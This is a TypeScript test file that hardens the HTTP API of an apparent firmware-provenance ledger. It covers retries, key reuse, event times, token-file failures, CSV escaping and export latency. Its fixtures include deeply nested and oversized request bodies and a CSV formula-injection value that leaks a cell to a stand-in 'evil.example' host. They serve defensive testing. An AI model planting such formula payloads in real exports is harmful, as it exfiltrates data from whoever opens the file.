/**
 * Hardening of the HTTP API, each case against the real server on loopback over real files: a read never
 * makes the log grow; a retry is answered before key checks; one key id per station; administrator event
 * times; bad and hostile bodies get a 4xx (never a 500), chunked ones included; a token file that vanishes or
 * is caught half-written keeps the last good tokens; a damaged read model is rebuilt; CSV cells cannot run as
 * formulas; and a 100,000-serial export does not stall other requests.
 */
import { request } from 'node:http';
import { mkdtempSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scanData, startTestLedger, type TestLedger } from './helpers/ledger-fixture.ts';
import { EventSigner } from '../src/event/signer.ts';
import { newSigner } from '../src/crypto/ed25519.ts';
import { signEnvelope, type DsseEnvelope } from '../src/crypto/dsse.ts';
import { EVENT_PAYLOAD_TYPE } from '../schemas/index.ts';
import { toHex, utf8 } from '../src/crypto/encoding.ts';
import { canonicalize } from '../src/crypto/jcs.ts';
import { SimulatedStation } from '../src/sim/simulated-station.ts';
import { simulatedRecipeRelease } from '../src/sim/recipe-unit.ts';
import { LedgerClient } from '../src/client/ledger-client.ts';
import { addToken } from '../src/api/tokens.ts';
import { spawnLedger } from './helpers/server-process.ts';

let t: TestLedger;
let st1: EventSigner;

interface Reply {
  status: number;
  type: string;
  text: string;
  body: Record<string, unknown>;
}

async function call(method: string, path: string, options: { token?: string | null; body?: unknown; raw?: string; accept?: string } = {}): Promise<Reply> {
  const headers: Record<string, string> = {};
  if (options.token !== null) headers['authorization'] = `Bearer ${options.token ?? t.tokens.admin}`;
  if (options.accept) headers['accept'] = options.accept;
  const hasBody = options.body !== undefined || options.raw !== undefined;
  if (hasBody) headers['content-type'] = 'application/json';
  const response = await fetch(`${t.url}${path}`, { method, headers, ...(hasBody ? { body: options.raw ?? JSON.stringify(options.body) } : {}) });
  const text = await response.text();
  let body: Record<string, unknown> = {};
  try {
    body = JSON.parse(text) as Record<string, unknown>;
  } catch {
    // not JSON (text/csv, ndjson)
  }
  return { status: response.status, type: response.headers.get('content-type') ?? '', text, body };
}

const postEvents = (envelopes: DsseEnvelope[], token = t.tokens.station1) => call('POST', '/v1/events', { token, body: { events: envelopes } });
const headPosition = async () => Number((await call('GET', '/readyz', { token: null })).body['headPosition']);

function expectProblem(reply: Reply, status: number, code: string, rule?: string) {
  expect(reply.status, reply.text).toBe(status);
  expect(reply.type).toMatch(/^application\/problem\+json/);
  expect(reply.body).toMatchObject({ status, code, ...(rule ? { rule } : {}) });
}

/** The head digest of a stream, for chaining a hand-made event. */
const headOf = async (stream: string) => (await call('GET', `/v1/streams/${stream}/head`)).body['digest'] as string | null;

beforeAll(async () => {
  t = await startTestLedger({ maxBodyBytes: 256 * 1024 });
  st1 = new EventSigner(t.stationKeys['ST-01'], 'ST-01');
});
afterAll(async () => t.stop());

describe('a read never makes the log grow', () => {
  it('300 exports of a serial that does not exist, checkpoints, proofs and provenance append nothing', async () => {
    await postEvents([st1.sign('UnitScanned', scanData('R-1')).envelope]);
    // The first export signs the checkpoint that covers the write above: growth caused by a write.
    expect((await call('POST', '/v1/exports', { token: t.tokens.auditor, body: { serials: ['NOPE'] } })).status).toBe(200);
    const before = await headPosition();
    for (let i = 0; i < 30; i++) {
      await Promise.all(Array.from({ length: 10 }, () => call('POST', '/v1/exports', { token: t.tokens.auditor, body: { serials: ['NOPE'] } })));
    }
    for (let i = 0; i < 20; i++) {
      expect((await call('GET', '/v1/checkpoint', { token: t.tokens.auditor })).status).toBe(200);
      expect((await call('GET', '/v1/units/R-1/provenance', { token: t.tokens.auditor })).status).toBe(200);
      expect((await call('GET', '/v1/units/NOPE/provenance', { token: t.tokens.auditor })).status).toBe(404);
    }
    expect(await headPosition()).toBe(before);
  });
});

describe('a retry is answered before the key is checked', () => {
  it('an event recorded before its key was revoked, sent again, is 200 duplicate, not 403 KEY_REVOKED', async () => {
    const key = newSigner();
    t.admin.setHead('station-ST-02', await headOf('station-ST-02'));
    await t.adminClient.appendAdmin([t.admin.sign('StationKeyRegistered', { stationId: 'ST-02', keyId: key.keyId, publicKey: toHex(key.publicKey), algorithm: 'ed25519' }).envelope]);
    const signer = new EventSigner(key, 'ST-02');
    const scan = signer.sign('UnitScanned', scanData('R-2', 'B-1', 'ST-02'));
    const first = await postEvents([scan.envelope], t.tokens.station2);
    expect(first.status).toBe(201);
    await t.adminClient.appendAdmin([t.admin.sign('StationKeyRevoked', { stationId: 'ST-02', keyId: key.keyId, reason: 'station PC replaced' }).envelope]);
    const retry = await postEvents([scan.envelope], t.tokens.station2);
    expect(retry.status, retry.text).toBe(200);
    expect(retry.body['events']).toEqual([{ ...(first.body['events'] as object[])[0], duplicate: true }]);
    // A new event under the revoked key is still refused.
    expectProblem(await postEvents([signer.sign('StepFailed', { serial: 'R-2', step: 'bootloader', errorCode: 'FLASH_TIMEOUT', message: 'no answer', attempt: 1 }).envelope], t.tokens.station2), 403, 'KEY_REVOKED');
  });
});

describe('one key id, one station', () => {
  it("registering ST-01's key for another station is refused: KEY_IN_USE names the holder", async () => {
    t.admin.setHead('station-ST-03', null);
    await t.adminClient.appendAdmin([t.admin.sign('StationRegistered', { stationId: 'ST-03', line: 'L1', site: 'Plant 1' }).envelope]);
    const stolen = t.stationKeys['ST-01'];
    const reply = await call('POST', '/v1/admin/events', { body: t.admin.sign('StationKeyRegistered', { stationId: 'ST-03', keyId: stolen.keyId, publicKey: toHex(stolen.publicKey), algorithm: 'ed25519' }).envelope });
    expectProblem(reply, 409, 'RULE_VIOLATION', 'KEY_IN_USE');
    expect(reply.body['detail']).toMatch(/already registered to station ST-01/);
  });

  it('one request registering one new key for two stations is refused whole', async () => {
    const key = newSigner();
    const admin = new EventSigner(readSecretKey(), 'admin');
    const events = ['ST-04', 'ST-05'].flatMap((stationId) => [
      admin.sign('StationRegistered', { stationId, line: 'L1', site: 'Plant 1' }).envelope,
      admin.sign('StationKeyRegistered', { stationId, keyId: key.keyId, publicKey: toHex(key.publicKey), algorithm: 'ed25519' }).envelope,
    ]);
    const reply = await call('POST', '/v1/admin/events', { body: events });
    expectProblem(reply, 409, 'RULE_VIOLATION', 'KEY_IN_USE');
    expect(reply.body['index']).toBe(3);
    expectProblem(await call('GET', '/v1/stations/ST-04', { token: t.tokens.auditor }), 404, 'NOT_FOUND');
  });
});

function readSecretKey() {
  // The fixture's admin signer keeps its key private; the key file is the administrator's own.
  const file = JSON.parse(readFileSync(join(t.dataDir, 'admin.key'), 'utf8')) as { secretKey: string; publicKey: string; keyId: string };
  return { keyId: file.keyId, secretKey: Buffer.from(file.secretKey, 'hex'), publicKey: Buffer.from(file.publicKey, 'hex') };
}

describe('administrator event times are bounded like unit event times', () => {
  it('a ReleaseApproved dated 2999 is refused (CLOCK_SKEW); one dated 1970 is refused (EVENT_TOO_OLD)', async () => {
    const data = { releaseId: 'R-T', productSku: 'SENSOR-S3', version: '9.9.9', bootloaderSha256: 'b'.repeat(64), applicationSha256: 'a'.repeat(64), provisioningTemplateSha256: 'c'.repeat(64), signingKeyDigest: 'd'.repeat(64), efuseProfile: 'sb' };
    const future = new EventSigner(readSecretKey(), 'admin', () => new Date('2999-01-01T00:00:00.000Z'));
    expectProblem(await call('POST', '/v1/admin/events', { body: future.sign('ReleaseApproved', data).envelope }), 409, 'RULE_VIOLATION', 'CLOCK_SKEW');
    const past = new EventSigner(readSecretKey(), 'admin', () => new Date('1970-01-01T00:00:00.000Z'));
    expectProblem(await call('POST', '/v1/admin/events', { body: past.sign('ReleaseApproved', data).envelope }), 409, 'RULE_VIOLATION', 'EVENT_TOO_OLD');
  });
});

describe('the web interface\'s JSON routes refuse in problem+json, like the API', () => {
  it('/ui/find: no q is 400 BODY_INVALID naming q; a station token is 403 FORBIDDEN; no token is 401', async () => {
    const empty = await call('GET', '/ui/find?q=', { token: t.tokens.auditor });
    expectProblem(empty, 400, 'BODY_INVALID');
    expect(empty.body).toMatchObject({ detail: 'q must be a serial, MAC or chip id of 1 to 128 characters', field: 'q', instance: '/ui/find' });
    expectProblem(await call('GET', `/ui/find?q=${'x'.repeat(129)}`, { token: t.tokens.auditor }), 400, 'BODY_INVALID');
    expectProblem(await call('GET', '/ui/find?q=S-1', { token: t.tokens.station1 }), 403, 'FORBIDDEN');
    expect((await call('GET', '/ui/find?q=S-1', { token: null })).type).toMatch(/^application\/problem\+json/);
    expect((await call('GET', '/ui/live', { token: null })).type).toMatch(/^application\/problem\+json/);
  });
});

describe('placeholder digests in what an administrator declares', () => {
  it('an all-zero digest anywhere in an administrator event is refused (400 SCHEMA_INVALID, its field path)', async () => {
    const admin = new EventSigner(readSecretKey(), 'admin');
    const release = simulatedRecipeRelease('R-ZERO', 'SENSOR-S3', '9.9.8');
    const zeroKey = { ...release, images: release.images.map((i, n) => (n === 1 ? { ...i, sha256: '0'.repeat(64) } : i)) };
    const reply = await call('POST', '/v1/admin/events', { body: admin.sign('ReleaseApproved', zeroKey, { prev: null }).envelope });
    expectProblem(reply, 400, 'SCHEMA_INVALID');
    expect(reply.body['detail']).toBe('event 0: data.images.1.sha256: an all-zero digest is a placeholder, not the digest of anything; submit the real one');
    expect(reply.body['issues']).toEqual([{ path: 'data.images.1.sha256', message: 'an all-zero digest is a placeholder, not the digest of anything; submit the real one' }]);
    const zeroSha512 = { ...release, images: release.images.map((i, n) => (n === 0 ? { ...i, sha512: '0'.repeat(128) } : i)) };
    expect((await call('POST', '/v1/admin/events', { body: admin.sign('ReleaseApproved', zeroSha512, { prev: null }).envelope })).body['detail']).toMatch(/^event 0: data\.images\.0\.sha512: an all-zero digest/);
    // The same release with its generated images' digests is accepted: nothing else was wrong with it.
    expect((await call('POST', '/v1/admin/events', { body: admin.sign('ReleaseApproved', release, { prev: null }).envelope })).status).toBe(201);
  });
});

describe('hostile bodies get a 4xx with a stable code, never a 500', () => {
  it('a signed payload nested 20,000 objects deep: 400 ENVELOPE_INVALID', async () => {
    const deep = '{"a":'.repeat(20_000) + '1' + '}'.repeat(20_000);
    expectProblem(await postEvents([signEnvelope(EVENT_PAYLOAD_TYPE, utf8(deep), t.stationKeys['ST-01'])]), 400, 'ENVELOPE_INVALID');
  });

  it('a request body of 60,000 nested arrays: a 4xx', async () => {
    const reply = await call('POST', '/v1/events', { token: t.tokens.station1, raw: '['.repeat(60_000) + ']'.repeat(60_000) });
    expect(reply.status).toBeGreaterThanOrEqual(400);
    expect(reply.status).toBeLessThan(500);
    expect(reply.type).toMatch(/^application\/problem\+json/);
  });

  it('a UTF-8 byte order mark before a signed payload: 400 (one event, one byte form)', async () => {
    const { event } = st1.sign('UnitScanned', scanData('H-1'));
    const bom = new Uint8Array([0xef, 0xbb, 0xbf, ...utf8(canonicalize(event))]);
    const reply = await postEvents([signEnvelope(EVENT_PAYLOAD_TYPE, bom, t.stationKeys['ST-01'])]);
    expect(reply.status, reply.text).toBe(400);
    expect(['ENVELOPE_INVALID', 'PAYLOAD_NOT_CANONICAL']).toContain(reply.body['code']);
  });

  it('a lone surrogate in a signed payload: 400 (RFC 8785 needs I-JSON)', async () => {
    const { event } = st1.sign('UnitScanned', scanData('H-2'));
    const text = canonicalize(event).replace('"op-test"', '"op-\\ud800"');
    const reply = await postEvents([signEnvelope(EVENT_PAYLOAD_TYPE, utf8(text), t.stationKeys['ST-01'])]);
    expect(reply.status, reply.text).toBe(400);
  });

  it('a chunked body over the limit: 413, and the connection is closed; a chunked body within it is read', async () => {
    const chunked = (chunks: string[]) =>
      new Promise<{ status: number; body: string; connection: string | undefined }>((resolve, reject) => {
        const req = request(`${t.url}/v1/events`, { method: 'POST', headers: { authorization: `Bearer ${t.tokens.station1}`, 'content-type': 'application/json', 'transfer-encoding': 'chunked' } }, (res) => {
          let body = '';
          res.on('data', (d: Buffer) => (body += d.toString()));
          res.on('end', () => resolve({ status: res.statusCode ?? 0, body, connection: res.headers['connection'] }));
        });
        req.on('error', (error: NodeJS.ErrnoException) => (error.code === 'EPIPE' || error.code === 'ECONNRESET' ? undefined : reject(error)));
        const send = async () => {
          for (const c of chunks) {
            if (!req.write(c)) await new Promise((r) => req.once('drain', r));
          }
          req.end();
        };
        void send();
      });
    const big = await chunked(['{"events": [], "pad": "', ...Array.from({ length: 40 }, () => 'x'.repeat(16 * 1024)), '"}']);
    expect(big.status).toBe(413);
    expect(JSON.parse(big.body)).toMatchObject({ code: 'PAYLOAD_TOO_LARGE' });
    const small = await chunked([JSON.stringify({ events: [st1.sign('UnitScanned', scanData('H-3')).envelope] }).slice(0, 50), JSON.stringify({ events: [] }).slice(0, 0)]);
    // Half a JSON document, sent in chunks: read whole, then refused as what it is.
    expect(small.status).toBe(400);
    const whole = JSON.stringify({ events: [st1.sign('UnitScanned', scanData('H-4')).envelope] });
    expect((await chunked([whole.slice(0, 100), whole.slice(100)])).status).toBe(201);
  });
});

describe('a token file that vanishes or is caught half-written', () => {
  it('keeps the last good tokens, never answers 500, logs the problem once, and takes the file again once it is valid', async () => {
    const file = t.config.tokensFile;
    const saved = readFileSync(file, 'utf8');
    renameSync(file, `${file}.away`);
    await new Promise((r) => setTimeout(r, 1100)); // the file is looked at again after a second
    for (let i = 0; i < 5; i++) expect((await call('GET', '/v1/units/R-1', { token: t.tokens.auditor })).status).toBe(200);
    writeFileSync(file, saved.slice(0, saved.length / 2), { mode: 0o600 });
    await new Promise((r) => setTimeout(r, 1100));
    for (let i = 0; i < 5; i++) expect((await call('GET', '/v1/units/R-1', { token: t.tokens.auditor })).status).toBe(200);
    rmSync(file);
    renameSync(`${file}.away`, file);
    const added = addToken(file, { name: 'late-auditor', role: 'auditor' });
    await new Promise((r) => setTimeout(r, 1100));
    expect((await call('GET', '/v1/units/R-1', { token: added })).status).toBe(200);
    const logged = t.logs().split('\n').filter((l) => l.includes(file)).map((l) => JSON.parse(l) as { level: number; msg: string });
    expect(logged.filter((l) => l.level === 50).map((l) => l.msg)).toEqual([
      expect.stringMatching(new RegExp(`^${file} cannot be read \\(ENOENT\\); the \\d+ tokens last read from it stay in force$`)),
      expect.stringMatching(new RegExp(`^${file}: not a valid token list \\(.*\\); the \\d+ tokens last read from it stay in force$`)),
    ]);
    expect(logged.some((l) => l.level === 30 && l.msg === 'token file reloaded')).toBe(true);
  });
});

describe('CSV cells cannot run as formulas', () => {
  it('GET /v1/firmware/:sha/units as text/csv neutralises a customer and an order reference that start formulas', async () => {
    const station = new SimulatedStation(new LedgerClient(t.url, t.tokens.station1), st1, { stationId: 'ST-01', operator: 'op', batchId: 'B-1', hardwareRevision: 'rev-C' }, t.release);
    await station.flash('CSV-1', 'pass-unshipped');
    st1.setHead('unit-CSV-1', await headOf('unit-CSV-1'));
    const customer = '=HYPERLINK("http://evil.example/?leak="&A1,"ACME")';
    expect((await postEvents([st1.sign('UnitShipped', { serial: 'CSV-1', customer, orderRef: '+1-555-0100' }).envelope])).status).toBe(201);
    const csv = await call('GET', `/v1/firmware/${t.release.application.sha256}/units`, { token: t.tokens.auditor, accept: 'text/csv' });
    expect(csv.type).toMatch(/^text\/csv/);
    const row = csv.text.split('\r\n').find((l) => l.startsWith('CSV-1,')) as string;
    expect(row).toContain(`"'${customer.replaceAll('"', '""')}"`);
    expect(row).toContain(`"'+1-555-0100"`);
    // No cell of the answer starts a formula once unquoted.
    for (const line of csv.text.split('\r\n').filter(Boolean)) {
      for (const cell of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe('a long export does not stall other requests', () => {
  it('/healthz of a real server process keeps answering (median under 100 ms, none over 1 s) while a 100,000-serial export streams (it was blocked for 2.8 s)', async () => {
    // A ledger of its own, in its own process: the latencies measured are the server's alone.
    const setup = await startTestLedger({ dataDir: mkdtempSync(join(tmpdir(), 'flashtrail-export-latency-')) });
    const station = new SimulatedStation(new LedgerClient(setup.url, setup.tokens.station1), new EventSigner(setup.stationKeys['ST-01'], 'ST-01'), { stationId: 'ST-01', operator: 'op', batchId: 'B-1', hardwareRevision: 'rev-C' }, setup.release);
    await station.flash('L-1', 'pass');
    const auditor = setup.tokens.auditor;
    await setup.stop();
    const server = await spawnLedger(setup.dataDir);
    try {
      const serials = Array.from({ length: 100_000 }, (_, i) => `NONE-${String(i).padStart(6, '0')}`);
      serials[50_000] = 'L-1';
      const body = JSON.stringify({ serials });
      let done = false;
      let exportMs = 0;
      const exportStarted = performance.now();
      const exported = fetch(`${server.url}/v1/exports`, { method: 'POST', headers: { authorization: `Bearer ${auditor}`, 'content-type': 'application/json' }, body })
        .then(async (r) => ({ status: r.status, text: await r.text() }))
        .finally(() => {
          done = true;
          exportMs = performance.now() - exportStarted;
        });
      const latencies: number[] = [];
      while (!done) {
        const started = performance.now();
        expect((await fetch(`${server.url}/healthz`)).status).toBe(200);
        latencies.push(performance.now() - started);
        await new Promise((r) => setTimeout(r, 20));
      }
      const reply = await exported;
      expect(reply.status).toBe(200);
      expect(reply.text.split('\n').filter((l) => l.includes('"record":"unit"'))).toHaveLength(1);
      // Blocked, the loop above gets one or two answers in all (each as late as the export is long). With turns
      // it gets one every few tens of milliseconds; a garbage collection or a busy CI machine may delay a few of
      // them. The export's own length sets how many answers that is (the writer got faster: ~0.3 s quiet).
      const shown = `healthz latencies: ${latencies.map((l) => l.toFixed(0)).join(' ')} during an export of ${exportMs.toFixed(0)} ms`;
      expect(latencies.length, shown).toBeGreaterThanOrEqual(Math.max(1, Math.floor(exportMs / 250)));
      const sorted = [...latencies].sort((a, b) => a - b);
      // The median says something only over enough answers: a short export's few include the one that waited
      // for the 100,000-serial body to be parsed and validated (about 0.1 s, once, before the stream starts).
      if (sorted.length >= 20) expect(sorted[Math.floor(sorted.length / 2)], shown).toBeLessThan(100);
      // Under a shared CI machine single answers can be slow for reasons of its own; what the fix removed was
      // the event loop held for the whole export (2.8 s). 99 in 100 answers within a second, none near that.
      expect(sorted[Math.floor(sorted.length * 0.99)], shown).toBeLessThan(1000);
      expect(Math.max(...latencies), shown).toBeLessThan(2500);
    } finally {
      await server.kill('SIGTERM');
      rmSync(setup.dataDir, { recursive: true, force: true });
    }
  });
});
